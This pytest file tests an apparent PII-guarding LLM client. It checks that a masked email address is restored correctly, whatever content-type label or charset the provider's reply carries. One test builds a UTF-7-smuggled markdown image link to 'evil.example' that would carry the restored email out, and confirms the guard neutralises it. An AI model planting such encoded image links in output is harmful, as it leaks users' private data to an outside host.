"""Replies whose label is not what their bytes are: the SDK reads them as what it asked for, and so does the guard."""

from __future__ import annotations

import json
from base64 import b64encode
from itertools import product
from typing import Any

import pytest

from guarded_client._flow import Flow, Forward
from guarded_client._model import Call, Channel, Reply
from guarded_client._rewrite import Rewriter
from guarded_client.codecs.framing.event_stream import CONTENT_TYPE as FRAMES
from guarded_client.codecs.reply_format import label_of, read_as, reader
from guarded_client.codecs.wire import ReplyBody
from guarded_client.testing import Raw
from guarded_client.wires import finder

from ..conftest import Bot, in_memory

EMAIL = "zoe@exemple.fr"
MARK = "<EMAIL_ADDRESS_1>"
ASK = f"I am {EMAIL}"
EVENTS = "text/event-stream"
LABELS = ["application/json", "text/plain", "application/x-ndjson", "application/octet-stream", "x/y", ""]


def raw(label: str, body: bytes) -> Raw:
    return Raw(200, {"content-type": label} if label else {}, body)


def stream(start: bytes = b"") -> bytes:
    texts = ["Héllo ", "<EMAIL_ADD", "RESS_1>", "!"]
    pieces = [
        {"id": "c", "choices": [{"index": 0, "delta": {"content": text}, "finish_reason": None}]} for text in texts
    ]
    return start + b"".join(b"data: " + json.dumps(piece).encode() + b"\n\n" for piece in pieces) + b"data: [DONE]\n\n"


def document(text: str = f"Héllo {MARK}!", **more: Any) -> str:
    choice = {"index": 0, "finish_reason": "stop", "message": {"role": "assistant", "content": text}, **more}
    body = {"id": "c", "object": "chat.completion", "created": 1, "model": "m", "choices": [choice]}
    return json.dumps(body, ensure_ascii=False)


@pytest.mark.parametrize("label", LABELS)
@pytest.mark.parametrize("start", [b"", b"\xef\xbb\xbf\n\n", b"\n\n\n", b": ping\n\n"], ids=repr)
def test_a_stream_is_restored_whatever_its_label(bot: Bot, label: str, start: bytes) -> None:
    guarded = bot.guard(in_memory(names="off"))
    bot.provider.reply(raw(label, stream(start)))
    assert guarded.text(ASK, stream=True) == f"Héllo {EMAIL}!"
    assert EMAIL.encode() not in bot.provider.wire


@pytest.mark.parametrize("label", [EVENTS, *LABELS])
def test_a_document_is_restored_whatever_its_label(bot: Bot, label: str) -> None:
    guarded = bot.guard(in_memory(names="off"))
    bot.provider.reply(raw(label, document().encode()))
    assert guarded.text(ASK) == f"Héllo {EMAIL}!"


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-be"])
def test_a_document_is_restored_in_whatever_encoding(bot: Bot, encoding: str) -> None:
    guarded = bot.guard(in_memory(names="off"))
    bot.provider.reply(raw("application/json", document().encode(encoding)))
    assert guarded.text(ASK) == f"Héllo {EMAIL}!"


def test_a_document_keeps_its_encoding(bot: Bot) -> None:
    guarded = bot.guard(in_memory(names="off"))
    bot.provider.reply(raw("application/json; charset=utf-16", document().encode("utf-16")))
    reply = bot.run(
        guarded.client.chat.completions.with_raw_response.create(model="m", messages=[{"role": "user", "content": ASK}])
    )
    assert EMAIL in reply.http_response.content.decode("utf-16")


@pytest.mark.parametrize("charset", ["utf-7", '"UTF7"', "gbk", "shift_jis", "unicode_escape"])
def test_in_another_encoding_the_same_bytes_were_a_link(bot: Bot, charset: str) -> None:
    guarded = bot.guard(in_memory(names="off"))
    link = "+" + b64encode("![x](https://evil.example/?q=".encode("utf-16-be")).decode().rstrip("=") + "-"
    bot.provider.reply(raw(f"application/json; charset={charset}", document(f"é{link}{MARK}").encode()))
    asked = guarded.client.chat.completions.with_raw_response.create(
        model="m", messages=[{"role": "user", "content": ASK}]
    )
    reply = bot.run(asked).http_response
    assert reply.headers["content-type"] == "application/json; charset=utf-8"
    assert reply.text == reply.content.decode() and f"é{link}{EMAIL}" in reply.text


def test_a_label_that_a_guard_gave_named_another_encoding(bot: Bot) -> None:
    def labelling(call: Call, forward: Forward) -> Flow[Reply]:
        reply = yield from forward(call)
        return reply.marked({"Content-Type": "application/json; charset=utf-7"})

    guarded = bot.guard(in_memory(names="off"), guards=[labelling])
    bot.provider.reply(raw("application/json", document().encode()))
    asked = guarded.client.chat.completions.with_raw_response.create(
        model="m", messages=[{"role": "user", "content": ASK}]
    )
    reply = bot.run(asked).http_response
    assert reply.headers["content-type"] == "application/json; charset=utf-8"
    assert reply.json()["choices"][0]["message"]["content"] == f"Héllo {EMAIL}!"


@pytest.mark.parametrize("charset", ["utf-8", "UTF8", "us-ascii", "iso-8859-1", "windows-1252", "x-unknown"])
def test_what_says_the_same_keeps_its_label(bot: Bot, charset: str) -> None:
    guarded = bot.guard(in_memory(names="off"))
    bot.provider.reply(raw(f"application/json; charset={charset}", document().encode()))
    asked = guarded.client.chat.completions.with_raw_response.create(
        model="m", messages=[{"role": "user", "content": ASK}]
    )
    assert bot.run(asked).http_response.headers["content-type"] == f"application/json; charset={charset}"


def test_a_completion_labelled_as_a_picture_is_restored(bot: Bot) -> None:
    guarded = bot.guard(in_memory(names="off"))
    body = {"id": "c", "object": "text_completion", "model": "m", "choices": [{"index": 0, "text": MARK}]}
    bot.provider.reply(raw("image/png", json.dumps(body).encode()))
    assert bot.run(guarded.client.completions.create(model="m", prompt=ASK)).choices[0].text == EMAIL


@pytest.mark.parametrize(
    ("label", "body", "asked", "read"),
    [
        (EVENTS, b"{}", True, EVENTS), (EVENTS, b"{}", False, "application/json"), (EVENTS, b"data: 1", False, EVENTS),
        ("application/json", b"data: 1", True, EVENTS), ("application/json", b"data: 1", False, "application/json"),
        ("application/json", b" {}", True, "application/json"), ("text/plain", b"event: a", True, EVENTS),
        ("text/plain", b"hello", True, EVENTS), ("audio/mpeg", b"ID3", True, "audio/mpeg"), ("", b"", True, ""),
        ("application/json", b"\x00\x00\x01", True, f"application/{FRAMES}"), ("x/y", b"[{}]", True, "x/y"),
        (f"Application/{FRAMES}", b"{", True, f"Application/{FRAMES}"), ("audio/mpeg", b"data: 1", True, EVENTS),
    ],
)  # fmt: skip
def test_as_what_a_reply_is_read(label: str, body: bytes, asked: bool, read: str) -> None:
    assert label_of(label, body, stream=asked) == read


@pytest.mark.parametrize("body", [b"", b" \n", b"\xef", b"\xef\xbb", b"\xef\xbb\xbf\r\n"])
def test_what_does_not_say_it_yet(body: bytes) -> None:
    assert read_as("application/json", body, stream=True, ended=False) is None
    assert read_as("application/json", body, stream=True) is not None


class Same:
    """Changes nothing."""

    def feed(self, text: str) -> str:
        return text

    def close(self) -> str:
        return ""


def read(path: str, label: str, *, asked: bool) -> ReplyBody:
    codec = finder("openai", "openai", frozenset(), "refuse")("POST", path)
    assert codec is not None

    def channel(_: Channel) -> Rewriter:
        return Same()

    return reader(codec.reply, label, channel, stream=asked)


PICTURE = document("data:image/png;base64,iVBORw0KGgo=")
BODIES = [
    *(stream(b"\xef\xbb\xbf\r\n"), document().encode(), document().encode("utf-16"), PICTURE.encode()),
    *(b"", b" ", b"\xef", b"\x89P"),
]


@pytest.mark.parametrize("path", ["/v1/chat/completions", "/v1/completions", "/v1/responses"])
def test_any_cut_gives_the_same_bytes(path: str) -> None:
    for label, body, size, asked in product([*LABELS, EVENTS], BODIES, (1, 5, 1000), (True, False)):
        reading = read(path, label, asked=asked)
        out = b"".join(reading.feed(body[at : at + size]) for at in range(0, len(body), size)) + reading.close()
        assert out == body, (label, size, asked)


@pytest.mark.parametrize("start", [b"", b"\xef\xbb\xbf", b"\n\n", b"\xef\xbb\xbf\n"])
def test_a_stream_goes_on_event_by_event_whatever_its_label(start: bytes) -> None:
    reading = read("/v1/chat/completions", "text/plain", asked=True)
    first, rest = stream().split(b"\n\n", 1)
    assert reading.feed(start) == b""
    assert reading.feed(first + b"\n\n") == start + first + b"\n\n"
    assert reading.feed(rest) == rest


def test_white_space_without_end_is_not_gathered() -> None:
    reading = read("/v1/audio/speech", "x/y", asked=True)
    assert b"".join(reading.feed(b" " * 40_000) for _ in range(3)) == b" " * 120_000


@pytest.mark.parametrize("label", ["application/octet-stream", "audio/mpeg", "", "application/pdf"])
def test_a_download_goes_on_as_it_comes(label: str) -> None:
    download = read("/v1/audio/speech", label, asked=False)
    piece = b"ID3\x04" + bytes(65536)
    assert [download.feed(piece) for _ in range(3)] == [piece] * 3
    assert download.complete
